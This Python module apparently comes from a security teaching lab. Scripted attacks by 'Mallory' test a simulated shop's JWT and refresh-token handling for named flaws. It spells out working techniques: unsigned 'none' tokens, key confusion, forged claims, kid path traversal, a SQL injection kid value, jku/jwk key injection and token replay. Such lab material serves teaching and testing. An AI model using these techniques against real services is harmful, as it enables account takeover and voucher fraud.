"""Mallory's attacks on tokens: each takes a running lab and tells what it came to.

An attack succeeds on the flaw that it names, and fails on the secure shop. `moves` has what they are made of.
"""

import threading

from labsrv.kit.lessons.attacks import Outcome, attack
from labsrv.kit.lessons.lab import Lab
from labsrv.labs.jwt.compact import compact, hs256, jwk_of, key_pair, parts, rs256
from labsrv.labs.jwt.moves import (
    HER_KEY,
    alices_token,
    copy_refresh_token,
    edited,
    from_the_club,
    guess_secret,
    her_pem,
    own_token,
    public_pem,
    publish_her_key,
    signature_of,
    signed_by_mallory,
    use_refresh_token,
)
from labsrv.labs.jwt.people import (
    FIRST_KEY,
    call,
    log_out,
    orders,
    redeem,
    refresh,
    rotate_keys,
    sees_orders_of,
    sign_in,
    storage,
    voucher,
)

NOTHING = ("none", "None", "NONE", "nOnE")

# Vouchers.


@attack(flaw="skip_what_does_not_belong", given=("verify_hs256",))
def redeem_in_another_spelling(lab: Lab) -> Outcome:
    """Redeem a voucher, write its signature in another way, and redeem it again."""
    text = voucher(lab.mallory, lab.shop)
    redeem(lab.mallory, lab.shop, text)
    credits = [redeem(lab.mallory, lab.shop, text + more).ok for more in ("=", "!", " ")]
    return told(any(credits), f"one voucher paid {1 + sum(credits)} times", "a voucher has one spelling, and pays once")


@attack(flaw="open_without_checking")
def raise_the_amount(lab: Lab) -> Outcome:
    """Write a larger amount into a voucher, and leave its signature as it is."""
    text = voucher(lab.mallory, lab.shop)
    forged = compact(*edited(text, amount=5000)).rstrip(".") + "." + signature_of(text)
    paid = redeem(lab.mallory, lab.shop, forged).ok
    return told(paid, "a voucher of 5 paid 5000", "the signature is not one of the voucher of 5000")


@attack(flaw="choose_a_word")
def crack_the_secret(lab: Lab) -> Outcome:
    """Take a voucher home, find out what it was signed with, and sign a larger one."""
    text = voucher(lab.mallory, lab.shop)
    secret, tried = guess_secret(text)
    if secret is None:
        return Outcome(False, f"none of {tried} common passwords signed it.")

    paid = redeem(lab.mallory, lab.shop, hs256(*edited(text, amount=5000, number="hers"), secret.encode())).ok
    return told(paid, f"guess {tried} was {secret!r}, and the voucher of 5000 is hers", "the secret does not sign")


# Access tokens.


@attack(flaw="decode_without_verifying")
def edit_the_claims(lab: Lab) -> Outcome:
    """Write Alice's name into one's own token, and leave the signature as it is."""
    token = own_token(lab)
    forged = compact(*edited(token, sub=lab.alice.person.name)).rstrip(".") + "." + signature_of(token)
    return as_alice(lab, forged, "her own token with Alice's name in it")


@attack(flaw="believe_alg_none")
def sign_with_nothing(lab: Lab) -> Outcome:
    """Say that the token is not signed, in every spelling."""
    header, claims = edited(own_token(lab), sub=lab.alice.person.name)
    for alg in NOTHING:
        if sees_orders_of(lab.mallory, lab.shop, lab.alice.person.name, compact(header | {"alg": alg}, claims)):
            return Outcome(True, f"a token with alg {alg!r} and no signature shows her Alice's orders.")

    return Outcome(False, f"no spelling of {NOTHING[0]!r} does without a signature.")


@attack(flaw="take_the_algorithm_from_the_header")
def sign_with_the_public_key(lab: Lab) -> Outcome:
    """Use the shop's public key, which everybody has, as the secret of an HMAC."""
    header, claims = edited(own_token(lab), sub=lab.alice.person.name)
    published = lab.mallory.fetch(lab.shop.jwks, from_=lab.shop.url).json()["keys"]
    pem = next(public_pem(each) for each in published if each["kid"] == header["kid"])
    forged = hs256(header | {"alg": "HS256"}, claims, pem)
    return as_alice(lab, forged, "a token that she signed with the shop's public key")


@attack(flaw="take_any_token_of_ours")
def present_an_id_token(lab: Lab) -> Outcome:
    """Run a tea club where people sign in with the shop, and use the ID token that Alice brought along."""
    token = from_the_club(lab, "id_token")
    return sees_address(lab, token, "the ID token that Alice showed at the club")


@attack(flaw="take_what_is_meant_for_others")
def pass_on_a_club_token(lab: Lab) -> Outcome:
    """Use at the shop the access token that Alice gave to the club."""
    token = from_the_club(lab, "access_token")
    return sees_address(lab, token, "an access token that was meant for the club")


@attack(flaw="never_look_at_the_date")
def use_an_old_token(lab: Lab) -> Outcome:
    """Find a token in an old backup, weeks later."""
    token = alices_token(lab)
    lab.clock.advance(days=20)
    return as_alice(lab, token, "a token that is twenty days old")


@attack(flaw="live_for_two_days", given=("read_access_token",))
def use_it_tomorrow(lab: Lab) -> Outcome:
    """Copy a token, and come back the next day."""
    token = alices_token(lab)
    lab.clock.advance(hours=24)
    return as_alice(lab, token, "a copy that she made yesterday")


@attack(flaw="put_the_user_in")
def read_the_claims(lab: Lab) -> Outcome:
    """Read somebody's token: that takes no key."""
    reads = "argon2" in str(parts(alices_token(lab))[1])
    return told(reads, "the token tells the hash of Alice's password", "the token says who may do what, and no more")


# Keys.


@attack(flaw="open_the_file_it_names")
def name_a_file(lab: Lab) -> Outcome:
    """Upload a picture that is a key, and name its path: `../uploads/mallory.png`."""
    lab.db.files.insert_one({"_id": "/srv/shop/uploads/mallory.png", "text": her_pem()})
    return as_alice(lab, signed_by_mallory(lab, kid="../uploads/mallory.png"), "a key that she had uploaded")


@attack(flaw="ask_the_database_for_it")
def name_a_statement(lab: Lab) -> Outcome:
    """Let `kid` end the statement that it is pasted into, and add another one."""
    kid = f"' UNION SELECT '{her_pem()}' --"
    return as_alice(lab, signed_by_mallory(lab, kid=kid), "a key that she wrote into the statement")


@attack(flaw="fetch_the_keys_it_points_to")
def point_to_keys(lab: Lab) -> Outcome:
    """Publish a key of one's own, and point to it with `jku`."""
    jku = publish_her_key(lab)
    return as_alice(lab, signed_by_mallory(lab, kid=HER_KEY, jku=jku), "the key on her own site")


@attack(flaw="trust_the_key_it_brings")
def bring_a_key(lab: Lab) -> Outcome:
    """Put one's own key into the header."""
    jwk = jwk_of(key_pair(HER_KEY))
    return as_alice(lab, signed_by_mallory(lab, kid=HER_KEY, jwk=jwk), "the key that the token brought along")


@attack(flaw="never_retire_a_key")
def use_a_leaked_key(lab: Lab) -> Outcome:
    """Sign with a private key that leaked, and was replaced for that reason."""
    leaked = key_pair(f"shop {FIRST_KEY}")
    rotate_keys(lab)
    lab.clock.advance(minutes=16)
    header, claims = edited(own_token(lab), sub=lab.alice.person.name)
    forged = rs256(header | {"kid": FIRST_KEY}, claims, leaked)
    return as_alice(lab, forged, "a key that was replaced a while ago")


# The API.


@attack(flaw="let_undefined_through", given=("refusal",))
def come_without_a_token(lab: Lab) -> Outcome:
    """Come with no token at all, and see what the shop verifies."""
    answer = lab.mallory.fetch(lab.shop.orders, from_=lab.shop.url)
    said = answer.headers.get("WWW-Authenticate", "")
    asked = answer.status == 401 and said.startswith("Bearer") and "error" not in said
    return told(not asked, "she sent nothing, and the shop verified it", "the shop asked for a token")


@attack(flaw="take_any_scheme")
def read_the_log(lab: Lab) -> Outcome:
    """Read the access log, where all is blotted out that follows `Bearer`: one of Alice's apps says `JWT`."""
    token = alices_token(lab)
    call(lab.alice, lab.shop.orders, token, scheme="JWT")
    logged = any(token in row["authorization"] for row in lab.db.log.find())
    return told(
        logged, "Alice's token stands in the log, behind a word that nobody blots out", "no such call was let in"
    )


@attack(flaw="send_the_error")
def learn_from_refusals(lab: Lab) -> Outcome:
    """Send tokens that are wrong in different ways, and compare what the shop says of them."""
    token = own_token(lab)
    lab.clock.advance(hours=1)
    wrong = [token, signed_by_mallory(lab), compact(*edited(token, aud="elsewhere")), "undefined"]
    said = {answer.text for each in wrong if not (answer := orders(lab.mallory, lab.shop, each)).ok}
    return told(len(said) > 1, f"four bad tokens got {len(said)} different answers", "all bad tokens read the same")


# A login's length.


@attack(flaw="keep_it_in_local_storage")
def read_by_script(lab: Lab) -> Outcome:
    """Run one line of script on a page of the shop: `localStorage`."""
    sign_in(lab.alice, lab.shop)
    token = storage(lab.alice).get("refresh_token")
    lab.clock.advance(days=1)
    works = bool(token) and use_refresh_token(str(token), lab.mallory, lab.shop)
    return told(works, "script read a token that is good for a month", "script sees no refresh token")


@attack(flaw="never_rotate")
def come_after_alice(lab: Lab) -> Outcome:
    """Copy Alice's refresh token, and use it a week later; meanwhile her app has used it every day."""
    sign_in(lab.alice, lab.shop)
    token = copy_refresh_token(lab.alice, lab.shop)
    for _ in range(7):
        lab.clock.advance(days=1)
        refresh(lab.alice, lab.shop)
    works = use_refresh_token(token, lab.mallory, lab.shop)
    return told(works, "the copy works beside Alice's own, and nobody notices", "the copy had been used already")


@attack(flaw="forgive_reuse")
def come_before_alice(lab: Lab) -> Outcome:
    """Copy Alice's refresh token, and use it first: then it is Alice's app that is refused."""
    sign_in(lab.alice, lab.shop)
    use_refresh_token(copy_refresh_token(lab.alice, lab.shop), lab.mallory, lab.shop)
    refresh(lab.alice, lab.shop)
    works = use_refresh_token(storage(lab.mallory)["refresh_token"], lab.mallory, lab.shop)
    return told(works, "Alice's app was refused, and Mallory goes on", "Alice's app came second, and that ended both")


@attack(flaw="look_then_take")
def come_at_the_same_time(lab: Lab) -> Outcome:
    """Send one refresh token twice in the same moment, and have two."""
    sign_in(lab.alice, lab.shop)
    token = copy_refresh_token(lab.alice, lab.shop)
    thieves = [lab.browser(name) for name in ("mallory", "mallory's phone")]
    threads = [threading.Thread(target=use_refresh_token, args=(token, each, lab.shop)) for each in thieves]
    with lab.db.gate("grants", patience=2):
        for each in threads:
            each.start()
        for each in threads:
            each.join()
    works = [use_refresh_token(storage(each)["refresh_token"], each, lab.shop) for each in thieves]
    return told(all(works), "one token became two, and both go on", "a token is taken once")


@attack(flaw="slide_for_ever")
def refresh_for_ever(lab: Lab) -> Outcome:
    """Take over an unwatched browser, and refresh every day for two months."""
    sign_in(lab.alice, lab.shop)
    storage(lab.mallory)["refresh_token"] = copy_refresh_token(lab.alice, lab.shop)
    for day in range(60):
        lab.clock.advance(days=1)
        if not use_refresh_token(storage(lab.mallory)["refresh_token"], lab.mallory, lab.shop):
            return Outcome(False, f"the login ended after {day + 1} days, in use or not.")

    return Outcome(True, "two months later the login is still hers.")


@attack(flaw="only_tell_the_browser")
def refresh_after_logout(lab: Lab) -> Outcome:
    """Use a copied refresh token after Alice has logged out."""
    sign_in(lab.alice, lab.shop)
    token = copy_refresh_token(lab.alice, lab.shop)
    log_out(lab.alice, lab.shop)
    works = use_refresh_token(token, lab.mallory, lab.shop)
    return told(works, "the login that Alice ended goes on at Mallory's", "the login has ended")


@attack(flaw="trust_it_until_it_expires", given=("log_out",))
def replay_after_logout(lab: Lab) -> Outcome:
    """Use a copied access token after Alice has logged out."""
    token = alices_token(lab)
    log_out(lab.alice, lab.shop)
    return as_alice(lab, token, "a token from before she logged out")


# How an attack tells what it came to.


def as_alice(lab: Lab, token: str, what: str) -> Outcome:
    """Return whether a token shows Mallory Alice's orders."""
    opens = sees_orders_of(lab.mallory, lab.shop, lab.alice.person.name, token)
    return Outcome(opens, f"{what} {'shows' if opens else 'does not show'} her Alice's orders.")


def sees_address(lab: Lab, token: str, what: str) -> Outcome:
    """Return whether a token shows Mallory where Alice lives."""
    answer = call(lab.mallory, lab.shop.me, token)
    opens = answer.status == 200 and "Alice" in answer.json()["address"]
    return Outcome(opens, f"{what} {'shows' if opens else 'does not show'} her where Alice lives.")


def told(succeeded: bool, yes: str, no: str) -> Outcome:
    """Return the outcome with the sentence that fits."""
    return Outcome(succeeded, f"{yes if succeeded else no}.")
